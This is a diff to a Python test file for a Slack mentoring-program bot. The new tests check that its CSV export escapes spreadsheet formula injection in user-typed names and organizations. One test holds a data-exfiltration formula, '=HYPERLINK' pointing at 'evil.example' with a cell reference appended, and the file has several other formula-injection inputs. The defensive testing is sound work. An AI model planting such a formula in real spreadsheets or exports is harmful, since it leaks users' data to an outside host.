@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import date, datetime
 from typing import Any
@@ -10,9 +12,11 @@ import pytest
 from slack_sdk.models.views import View
 
 from bot.services.agreements import PairView, Terms
+from bot.services.csv_files import SpreadsheetCsv
 from bot.services.enrollment import IntakeAnswers
 from bot.services.overview import EnrollmentCard, Partnership, PersonOverview
-from bot.views import intake, messages, pairs, participant
+from bot.services.pairing import MatchPreview, PreviewPair, Who
+from bot.views import admin, intake, messages, pairs, participant
 from storage.models import Enrollment, Pairing, Program
 from tests.factories import block_texts
 
@@ -179,3 +183,52 @@ def test_the_profile_change_notice_shows_typed_markup_in_the_program_name_and_an
     assert f"PLSEP {PING_SHOWN}" in text and f"*PLSEP {PING_SHOWN}*" in shown, shown
     assert f"*Riverside {PING_SHOWN}*" in shown and f"(Desert USD and Riverside {PING_SHOWN})" in shown, shown
     assert "<@U0B>" in shown and "<@U0A>" in shown, shown  # the bot's own mentions still work
+
+
+def typed_preview(region: str, organization: str, name: str) -> MatchPreview:
+    """A preview of one pair and one waitlisted mentee, whose typed answers and Slack names are `region`,
+    `organization` and `name`; the match's reasons quote them, as matching words them."""
+    reasons = [f"both prefer in-person meetings, both in {region}", f"cross-organization pair ({organization} and X)"]
+    pairing = Pairing(id=7, program_id=1, mentor_enrollment_id=1, mentee_enrollment_id=2, score=81.5, reasons=reasons)
+    return MatchPreview(
+        program=program(1, name=f"PLSEP {PING}"),
+        pairs=[PreviewPair(pairing, "U0A", "U0B", Who(name, organization), Who("Ana", organization))],
+        waitlist=[("U0C", "No mentor is available")],
+        shortages={},
+        mentors=1,
+        mentees=2,
+        open_slots=0,
+        seconds=0.1,
+        waitlisted={"U0C": Who(name, organization)},
+    )
+
+
+def test_the_match_preview_csv_writes_typed_formulas_as_text_and_numbers_as_numbers() -> None:
+    """An organization typed as `=HYPERLINK(...)` and a Slack name starting with `@`, in the pairs and in the
+    waitlist: the coordinator's spreadsheet shows them as text; the pairing id and score stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"Riverside")'
+    rows = list(
+        csv.reader(
+            io.StringIO(admin.preview_csv(typed_preview("Inland Empire", formula, "@SUM(1)")).decode("utf-8-sig"))
+        )
+    )
+    cells = [cell for row in rows[1:] for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == [], rows
+    assert rows[1][:4] == ["7", "U0A", "'@SUM(1)", f"'{formula}"] and rows[1][7] == "81.5", rows
+    assert ["U0C", "'@SUM(1)", f"'{formula}", "No mentor is available"] in rows, rows
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [("=1+2", "'=1+2"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+     ("\r=1", "'\r=1"), ("Riverside = home", "Riverside = home"), ("", ""), (-3, "-3"), (-1.5, "-1.5"), (12, "12"),
+     (None, "")],
+)  # fmt: skip
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text_and_numbers_are_left_alone(
+    cell: str | int | float | None, written: str
+) -> None:
+    sheet = SpreadsheetCsv()
+    sheet.writerow(["head", cell])
+    content = sheet.content()
+    assert content.startswith("\ufeff".encode()), "Excel needs the byte-order mark to read UTF-8"
+    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [["head", written]]
